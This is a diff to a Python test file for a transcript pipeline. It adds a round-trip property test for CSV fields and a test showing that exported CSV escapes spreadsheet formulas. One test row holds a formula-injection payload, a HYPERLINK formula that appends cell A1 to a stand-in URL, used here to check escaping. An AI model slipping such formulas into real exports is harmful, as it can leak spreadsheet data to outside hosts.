@@ -18,6 +18,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from praatio import textgrid
 
+from lpgnet.pipeline.corpora.text import named_rows
 from lpgnet.pipeline.errors import PipelineError, UsageError
 from lpgnet.pipeline.recordings.transcripts import read_transcript
 from lpgnet.pipeline.reports.config import PageConfig
@@ -84,6 +85,34 @@ def test_tables(timeline: Timeline, tmp_path: Path) -> None:
         rows = list(csv.DictReader(file))
     assert [float(each["p_happy"]) for each in rows] == [value["probabilities"]["happy"] for value in objects]
     assert list(rows[0])[-2:] == ["w_text", "w_audio"]
+
+
+WORDS = st.text("'=+-@\t\r\n1,;\"a", min_size=1, max_size=6) | st.text(
+    st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1
+)
+
+
+@given(texts=st.lists(WORDS, min_size=1, max_size=4), speaker=WORDS)
+@settings(max_examples=100, deadline=None)
+def test_words_in_csv_are_read_as_they_were(
+    texts: list[str], speaker: str, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    rows = tuple(row(index, text, speaker) for index, text in enumerate(texts))
+    timeline = Timeline("a", rows, None, 60.0)
+    paths = write(timeline, tmp_path_factory.mktemp("out"), "csv")
+    found = [each for _, each in named_rows(paths["csv"].read_bytes().decode(), paths["csv"])]
+    assert [(each["text"], each["speaker"]) for each in found] == [(text, speaker) for text in texts]
+
+
+def test_formulas_in_csv(timeline: Timeline, tmp_path: Path) -> None:
+    evil = replace(timeline, rows=(row(0, '=HYPERLINK("http://a.b/"&A1,"c")', "@Ann"), row(1, "-1.5", "Bob")))
+    path = write(evil, tmp_path, "csv")["csv"]
+    assert "\nturn 1,0.000,1.500,'@Ann,\"'=HYPERLINK" in path.read_text(encoding="utf-8")
+    assert "\nturn 2,2.000,3.500,Bob,-1.5,happy" in path.read_text(encoding="utf-8")
+    assert [turn.text for turn in read_transcript(path).turns] == [each.text for each in evil.rows]
+    assert [turn.speaker for turn in read_transcript(path).turns] == ["@Ann", "Bob"]
+    write_timeline(evil, tmp_path, ["csv"], PageConfig(), csv_raw=True)
+    assert '\nturn 1,0.000,1.500,@Ann,"=HYPERLINK' in path.read_text(encoding="utf-8")
 
 
 @pytest.mark.parametrize("form", ["srt", "vtt"])
